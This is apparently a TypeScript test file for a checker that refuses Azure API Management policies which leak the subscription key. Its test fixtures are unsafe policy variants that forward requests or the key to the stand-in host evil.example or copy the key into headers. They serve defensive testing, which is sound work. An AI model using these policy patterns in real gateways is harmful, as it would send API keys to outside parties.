/**
 * The policy safety rules (scripts/apim/policy-rules.ts): each refusal on its own, then end to end —
 * exit 2 with zero requests to the fake APIM, and `--allow-unsafe-policy` publishing with a loud warning.
 * Why the key must be removed by policy: APIM forwards it otherwise (Azure-Samples/Apim-Samples#70).
 */
import { describe, expect, it } from "vitest";
import { DEFAULT_KEY_NAMES, unsafePolicyFindings } from "../../scripts/apim/policy-rules.js";
import { parseXml } from "../../scripts/apim/policy-xml.js";
import {
  BASE_ARGS,
  expectRefusedBeforeAzure,
  fakeApim,
  runCli,
  staticCredential,
  tempFile,
  useMswServer,
} from "./harness.js";

const server = useMswServer();
const MI = '<authentication-managed-identity resource="2ff814a6-3304-4ab8-85cb-cd0e6f879c1d" />';
const SAFE = `<policies>
  <inbound>
    <base />
    <set-backend-service backend-id="{{backendId}}" />
    <set-header name="Ocp-Apim-Subscription-Key" exists-action="delete" />
    <set-query-parameter name="subscription-key" exists-action="delete" />
    ${MI}
  </inbound>
  <backend>
    <forward-request timeout="60" />
  </backend>
  <outbound>
    <set-header name="x-request-id" exists-action="override"><value>@(context.RequestId.ToString())</value></set-header>
  </outbound>
</policies>`;
const findings = (xml: string, names = DEFAULT_KEY_NAMES) =>
  unsafePolicyFindings(parseXml(xml.replace("{{backendId}}", "dbw-01")), names);

/** [rule, policy, expected finding] */
const unsafe: Array<[string, string, string]> = [
  [
    "key header not removed",
    SAFE.replace(/ *<set-header name="Ocp-Apim-Subscription-Key"[^\n]*\n/, ""),
    "the subscription key header is not removed",
  ],
  [
    "key header removed only inside <choose>",
    SAFE.replace(
      '<set-header name="Ocp-Apim-Subscription-Key" exists-action="delete" />',
      '<choose><when condition="@(true)"><set-header name="Ocp-Apim-Subscription-Key" exists-action="delete" /></when></choose>',
    ),
    "the subscription key header is not removed",
  ],
  [
    "key header overridden instead of deleted",
    SAFE.replace(
      'name="Ocp-Apim-Subscription-Key" exists-action="delete"',
      'name="Ocp-Apim-Subscription-Key" exists-action="skip"',
    ),
    "the subscription key header is not removed",
  ],
  [
    "key query parameter not removed",
    SAFE.replace(/ *<set-query-parameter[^\n]*\n/, ""),
    "the subscription key query parameter is not removed",
  ],
  ["managed identity missing", SAFE.replace(MI, ""), "no authentication-managed-identity"],
  [
    "managed identity conditional",
    SAFE.replace(
      MI,
      `<choose><when condition="@(context.Request.Method == &quot;GET&quot;)">${MI}</when></choose>`,
    ),
    "must be a direct child of <inbound>; at line 7 it is conditional",
  ],
  [
    "managed identity in <outbound>",
    SAFE.replace(MI, "").replace("<outbound>", `<outbound>${MI}`),
    "must be a direct child of <inbound>",
  ],
  [
    "set-backend-service with base-url",
    SAFE.replace('backend-id="{{backendId}}"', 'backend-id="{{backendId}}" base-url="https://evil.example"'),
    'set-backend-service has base-url="https://evil.example"',
  ],
  [
    "send-request",
    SAFE.replace(
      "<base />",
      '<base /><send-request mode="new" response-variable-name="r"><set-url>https://evil.example</set-url></send-request>',
    ),
    "<send-request> can send the request and its key elsewhere",
  ],
  [
    "forward-request outside <backend>",
    SAFE.replace("<outbound>", "<outbound><forward-request />"),
    "<forward-request> outside <backend> is not allowed",
  ],
  [
    "expression reads context.Subscription.Key",
    SAFE.replace("@(context.RequestId.ToString())", "@(context.Subscription.Key)"),
    "an expression in <value> reads the subscription key",
  ],
  [
    "expression reads the key header",
    SAFE.replace(
      "@(context.RequestId.ToString())",
      '@(context.Request.Headers.GetValueOrDefault("Ocp-Apim-Subscription-Key", ""))',
    ),
    "reads the subscription key",
  ],
  [
    "Authorization set from the key",
    SAFE.replace(
      "<outbound>",
      '<outbound><set-header name="Authorization" exists-action="override"><value>@("Bearer " + context.Subscription.PrimaryKey)</value></set-header>',
    ),
    "Authorization is set from the subscription key",
  ],
];

describe("unsafePolicyFindings", () => {
  it("accepts the safe policy and the shipped template's pattern", () => {
    expect(findings(SAFE)).toEqual([]);
  });

  it.each(unsafe)("refuses: %s", (_rule, xml, expected) => {
    const found = findings(xml);
    expect(found).toHaveLength(1);
    expect(found[0]).toContain(expected);
  });

  it("uses the API's own key names when they differ from APIM's defaults", () => {
    const custom = { header: "X-Api-Key", query: "api-key" };
    expect(findings(SAFE, custom).map((f) => f.slice(0, 60))).toEqual([
      expect.stringContaining("header is not removed"),
      expect.stringContaining("query parameter is not removed"),
    ]);
    expect(findings(SAFE, custom)[0]).toContain('name="X-Api-Key"');
  });
});

describe("import-to-apim with an unsafe policy", () => {
  const unsafePolicy = (xml: string) => ["--policy", tempFile("policy.xml", xml)];

  it.each(unsafe)("exits 2 and sends nothing: %s", async (_rule, xml, expected) => {
    const apim = fakeApim(server);
    const credential = staticCredential();
    const result = await runCli([...BASE_ARGS, ...unsafePolicy(xml)], { credential });
    expectRefusedBeforeAzure(result, apim, credential);
    expect(result.stderr).toContain("unsafe policy: ");
    expect(result.stderr).toContain(expected);
  });

  it("publishes it with --allow-unsafe-policy, after a loud warning", async () => {
    const apim = fakeApim(server);
    const xml = SAFE.replace(/ *<set-query-parameter[^\n]*\n/, "");
    const result = await runCli([...BASE_ARGS, ...unsafePolicy(xml), "--allow-unsafe-policy"]);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain("!! WARNING: --allow-unsafe-policy");
    expect(result.stderr).toContain("the subscription key query parameter is not removed");
    expect(apim.api()?.revision.policy).not.toContain("set-query-parameter");
  });

  it("does not take --allow-unsafe-policy from the environment", async () => {
    const apim = fakeApim(server);
    const xml = SAFE.replace(/ *<set-query-parameter[^\n]*\n/, "");
    const result = await runCli([...BASE_ARGS, ...unsafePolicy(xml)], {
      env: { APIM_ALLOW_UNSAFE_POLICY: "true", ALLOW_UNSAFE_POLICY: "true" },
    });
    expect(result.code).toBe(2);
    expect(apim.requests).toHaveLength(0);
  });
});
